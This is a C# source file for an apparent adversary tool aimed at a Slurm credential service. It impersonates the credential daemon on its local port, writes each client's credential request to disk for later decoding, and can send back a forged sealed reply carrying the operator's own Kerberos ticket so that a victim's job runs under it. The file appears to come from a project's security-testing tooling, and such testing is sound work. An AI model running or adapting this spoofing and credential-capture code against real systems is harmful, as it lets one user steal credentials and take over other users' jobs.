using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using SlurmNative.Credentials.Kerberos;
using SlurmNative.Credentials.Protocol;

namespace SlurmNative.Adversary;

/// <summary>
/// Listens where the daemon should be (its port while it is down, a failover address with no
/// daemon), keeps what arrives for a later <c>unmunge</c>, and answers as the daemon might.
/// </summary>
internal static class RogueListener
{
    public static async Task<int> RunAsync(Options options, CancellationToken stop)
    {
        int port = options.Number("port");
        string directory = options.Text("dir");
        string answer = options.Text("answer", "close");
        if (answer is not ("close" or "plain" or "sealed"))
            throw new ArgumentException("--answer is close, plain or sealed");
        // The forged reply carries this user's own ticket: what they would like the victim's job to use.
        byte[]? ownTicket = answer == "sealed" ? KerberosTickets.ReadTicketGrantingTicket() : null;

        using var listener = new Socket(SocketType.Stream, ProtocolType.Tcp);
        listener.SetSocketOption(SocketOptionLevel.Socket, SocketOptionName.ReuseAddress, true);
        listener.Bind(new IPEndPoint(IPAddress.Loopback, port));
        listener.Listen(64);
        Console.WriteLine($"listening on 127.0.0.1:{port}");
        int captured = 0;
        try
        {
            while (!stop.IsCancellationRequested)
            {
                using Socket connection = await listener.AcceptAsync(stop);
                byte[]? body = await ReadFrameBodyAsync(connection, stop);
                if (body is null)
                    continue;
                int n = Interlocked.Increment(ref captured);
                await File.WriteAllBytesAsync(Path.Combine(directory, $"request-{n}.cred"), body, stop);
                byte[]? reply = answer switch
                {
                    "plain" => Reply.Error(ReplyStatus.NotFound, "no credential stored; ask bob for help").EncodePlain(),
                    "sealed" => Reply.Ok(ownTicket).Seal(Request.Create(Operation.Get)),
                    _ => null,
                };
                if (reply is not null)
                    await connection.SendAsync(reply, SocketFlags.None, stop);
            }
        }
        catch (OperationCanceledException)
        {
        }
        Console.WriteLine($"captured {captured} requests");
        return 0;
    }

    /// <summary>One length-prefixed frame, read without judging its version or kind: whatever the client sent.</summary>
    private static async Task<byte[]?> ReadFrameBodyAsync(Socket connection, CancellationToken stop)
    {
        try
        {
            var header = new byte[6];
            if (!await ReceiveExactlyAsync(connection, header, stop))
                return null;
            int length = (int)Math.Min(BinaryPrimitives.ReadUInt32BigEndian(header), 1 << 20);
            var body = new byte[Math.Max(0, length - 2)];
            return await ReceiveExactlyAsync(connection, body, stop) ? body : null;
        }
        catch (SocketException)
        {
            return null;
        }
    }

    private static async Task<bool> ReceiveExactlyAsync(Socket connection, Memory<byte> buffer, CancellationToken stop)
    {
        while (!buffer.IsEmpty)
        {
            int read = await connection.ReceiveAsync(buffer, SocketFlags.None, stop);
            if (read == 0)
                return false;
            buffer = buffer[read..];
        }
        return true;
    }
}
